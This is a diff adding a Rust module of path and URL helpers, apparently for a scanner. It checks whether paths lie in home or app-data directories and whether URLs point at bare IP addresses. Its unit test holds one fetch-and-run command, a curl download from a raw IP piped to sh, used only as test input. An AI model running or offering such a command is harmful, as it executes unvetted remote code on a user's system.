@@ -1,0 +1,70 @@
+//! Reading folded path and URL text: is it in the home directory, is it a URL.
+
+/// Normalises a path for matching: lowercase, `/` separators, home forms as `~`.
+pub fn normalize(path: &str) -> String {
+    let p = path.replace('\\', "/").to_ascii_lowercase();
+    for home in ["$home", "${home}", "%userprofile%", "%homepath%", "%homedrive%%homepath%"] {
+        if let Some(rest) = p.strip_prefix(home) {
+            return format!("~{rest}");
+        }
+    }
+    p
+}
+
+/// True for paths in a user's home directory (including per-user app data).
+pub fn is_home(path: &str) -> bool {
+    let p = normalize(path);
+    p.starts_with('~')
+        || p.starts_with("%appdata%")
+        || p.starts_with("%localappdata%")
+        || p.starts_with("/home/")
+        || p.starts_with("/root/")
+        || p.starts_with("/users/")
+        || p.starts_with("c:/users/")
+}
+
+/// Caches and per-user data folders that libraries legitimately fill when called.
+pub fn is_cache(path: &str) -> bool {
+    let p = normalize(path);
+    p.starts_with("~/.cache/") || p.starts_with("~/.local/share/") || p.contains("/appdata/local/temp/")
+}
+
+/// The first http(s)/ftp URL in a text.
+pub fn find_url(text: &str) -> Option<String> {
+    let start = ["http://", "https://", "ftp://"].iter().filter_map(|s| text.find(s)).min()?;
+    let url: String = text[start..]
+        .chars()
+        .take_while(|c| !c.is_whitespace() && !matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | '|' | ';'))
+        .collect();
+    (url.len() > 8).then_some(url)
+}
+
+/// The host part of a URL.
+pub fn host(url: &str) -> &str {
+    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+    let host = authority.rsplit('@').next().unwrap_or(authority);
+    host.split(':').next().unwrap_or(host)
+}
+
+/// True when a URL's host is a bare IPv4 address.
+pub fn is_raw_ip(url: &str) -> bool {
+    let h = host(url);
+    h.split('.').count() == 4 && h.split('.').all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn home_and_urls() {
+        assert!(is_home("~/.bashrc"));
+        assert!(is_home("%APPDATA%\\Microsoft\\x.exe"));
+        assert!(is_home("$HOME/.config/x"));
+        assert!(!is_home("/tmp/x"));
+        assert_eq!(find_url("curl -s http://192.0.2.7:8080/p.sh|sh").as_deref(), Some("http://192.0.2.7:8080/p.sh"));
+        assert!(is_raw_ip("http://192.0.2.7:8080/p"));
+        assert!(!is_raw_ip("https://example.com/p"));
+    }
+}
